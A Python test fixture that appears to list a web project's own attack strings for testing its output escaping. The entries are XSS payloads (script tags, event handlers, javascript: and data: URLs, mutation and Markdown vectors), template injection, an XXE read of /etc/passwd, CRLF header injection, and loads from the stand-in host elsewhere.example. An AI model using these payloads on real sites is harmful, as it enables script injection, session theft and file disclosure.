"""The project's own attacks, by class: they are there in every checkout."""

from collections.abc import Iterator

from exemplar.core.personal import marker

# One long word has nowhere to break; a long one of wide letters is wider still.
_LONG_WORD = "Supercalifragilistic" * 12

OWN: dict[str, tuple[str, ...]] = {
    "script element": (
        "<script>alert(1)</script>",
        "<ScRiPt >alert(1)</sCrIpT >",
        "<script src=//elsewhere.example/x.js></script>",
        "<scr<script>ipt>alert(1)</scr</script>ipt>",
        "<script/type=module>import('//elsewhere.example/')</script>",
        "<svg><script>alert&#40;1)</script>",
        "<script\n>alert(1)//",
    ),
    "event handler": (
        "<img src=x onerror=alert(1)>",
        "<svg/onload=alert(1)>",
        "<details open ontoggle=alert(1)>more",
        "<input autofocus onfocus=alert(1)>",
        "<p id=x style='animation:blink 1s' onanimationstart=alert(1)>",
        "<video><source onerror=alert(1)></video>",
        "<body onpageshow=alert(1)>",
        "<a onpointerenter=alert(1) href=#>hover</a>",
    ),
    "address that runs": (
        "javascript:alert(1)",
        "JaVaScRiPt:alert(1)",
        "java\tscript:alert(1)",
        "\x01javascript:alert(1)",
        "javascript&colon;alert(1)",
        "&#106;avascript:alert(1)",
        "<a href='javascript:alert(1)'>here</a>",
        "<a href='vbscript:msgbox(1)'>here</a>",
        "<form action=javascript:alert(1)><button>Go</button></form>",
        "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
        "<object data=javascript:alert(1)></object>",
        "<base href=//elsewhere.example/>",
        "<meta http-equiv=refresh content='0;url=//elsewhere.example/'>",
        "http://example.test/?<script>alert(1)</script>",
        "https://example.test/'onmouseover='alert(1)",
        "/\\elsewhere.example/",
        "//elsewhere.example/",
    ),
    "data address": (
        "data:text/html,<script>alert(1)</script>",
        "<iframe src='data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='></iframe>",
        "<embed src='data:image/svg+xml,%3Csvg onload=alert(1)%3E'>",
    ),
    "SVG and MathML": (
        "<svg><a xlink:href=javascript:alert(1)><text y=20>here</text></a></svg>",
        "<svg><animate attributeName=href values=javascript:alert(1) /></svg>",
        "<svg><use href='data:image/svg+xml,<svg id=x onload=alert(1)/>#x'/></svg>",
        "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>here</maction></math>",
        "<svg><foreignObject><iframe onload=alert(1)></iframe></foreignObject></svg>",
    ),
    "mutation": (
        "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
        "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
        "<math><mtext><mglyph><style><!--</style><img title='--><img src onerror=alert(1)>'>",
        "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
        "<table><td><svg><title><b></title><img src=x onerror=alert(1)>",
        "<textarea><img title='</textarea><img src=x onerror=alert(1)>'>",
    ),
    "breaking out of an attribute": (
        '"><img src=x onerror=alert(1)>',
        "'><img src=x onerror=alert(1)>",
        '" onfocus="alert(1)" autofocus="',
        "' onmouseover='alert(1)",
        "` onerror=alert(1) `",
        "x onclick=alert(1) ",
        "</title><script>alert(1)</script>",
        "</textarea><script>alert(1)</script>",
        "</option></select><img src=x onerror=alert(1)>",
    ),
    "comment and CDATA": (
        "--><script>alert(1)</script><!--",
        "<!--><img src=x onerror=alert(1)>-->",
        "]]><script>alert(1)</script>",
        "<![CDATA[<script>alert(1)</script>]]>",
        "<?xml-stylesheet href='javascript:alert(1)'?>",
        "<!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]>&y;",
    ),
    "structured data": (
        '"}</script><script>alert(1)</script>',
        '\\"},"x":{"@type":"Person"},"y":"',
        "\u2028alert(1)\u2029",
        "</script><!--<script>",
    ),
    "style": (
        "<style>body{display:none}</style>",
        "<style>@import '//elsewhere.example/x.css';</style>",
        "<link rel=stylesheet href=//elsewhere.example/x.css>",
        "<p style='background:url(//elsewhere.example/);position:fixed;inset:0'>over all</p>",
        "</style><img src=x onerror=alert(1)>",
    ),
    "template": (
        "{{ 7|add:7 }}{% debug %}",
        "{% load exemplar %}{% personal 'account_menu' %}",
        "${alert(1)}#{7*7}<%= 7*7 %>",
        "{{constructor.constructor('alert(1)')()}}",
        "%(name)s {0.__class__} %n%s",
    ),
    "Markdown": (
        "[here](javascript:alert(1))",
        "[here](JaVaScRiPt&colon;alert(1))",
        "[here](  javascript:alert(1) 'title')",
        "[here](<java\tscript:alert(1)>)",
        "[here](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
        "![picture](//elsewhere.example/x.png)",
        "![picture](x \"onerror=alert(1)\")",
        "<javascript:alert(1)>",
        "<https://example.test/?x=\"onmouseover=alert(1)>",
        "[here][it]\n\n[it]: javascript:alert(1)",
        "[a](https://example.test/\"onclick=alert(1)//)",
        "```\"><script>alert(1)</script>\nx\n```",
        "`<script>alert(1)</script>`",
        "<div>\n\n**bold** <img src=x onerror=alert(1)>\n\n</div>",
        "| a | b |\n|---|---|\n| <script>alert(1)</script> | [x](javascript:alert(1)) |",
        "# <img src=x onerror=alert(1)>",
        "&lt;script&gt;alert(1)&lt;/script&gt;",
    ),
    "hidden and reversed letters": (
        "\u202ereversed \u2066and\u2069 kept so",
        "\u2067right to left without an end",
        "zero\u200bwidth\u200c\u200d\ufeff\u2060",
        "e\u0301\u0323" + "\u0300" * 60 + "z",
        "<\u200bscript>alert(1)</script>",
    ),
    "look-alikes": (
        "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
        "\u02c2img src=x onerror=alert(1)\u02c3",
        "\u2039script\u203aalert(1)\u2039/script\u203a",
        "<\u017fcript>alert(1)</\u017fcript>",
        "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    ),
    "layout": (
        "W" * 110,
        _LONG_WORD,
        "https://example.test/" + "a-very-long-path_" * 10,
        "\u00a0".join(["no", "break"] * 20),
        "\ufdfd\ufdfd\ufdfd\ufdfd\ufdfd",
        "\U0001f469\u200d\U0001f469\u200d\U0001f467" * 12,
    ),
    "control characters and headers": (
        "one\r\nBcc: everyone@elsewhere.example\r\n\r\nbody",
        "one\r\nSet-Cookie: session=stolen",
        "bell\x07 escape\x1b[2J form\x0c feed",
        "\x85next\x1funit\x7fdelete",
        "\ufffe\uffff not letters",
    ),
    "addresses of people": (
        '"<script>alert(1)</script>"@example.test',
        '"><img/src=x/onerror=alert(1)>"@example.test',
    ),
}  # fmt: skip


def own_attacks() -> Iterator[str]:
    """Each string; and a true marker of a personal fragment, as if somebody had found its key."""
    for strings in OWN.values():
        yield from strings
    yield marker("account_menu")
    yield marker("account_menu").replace("<!--", "&lt;!--")
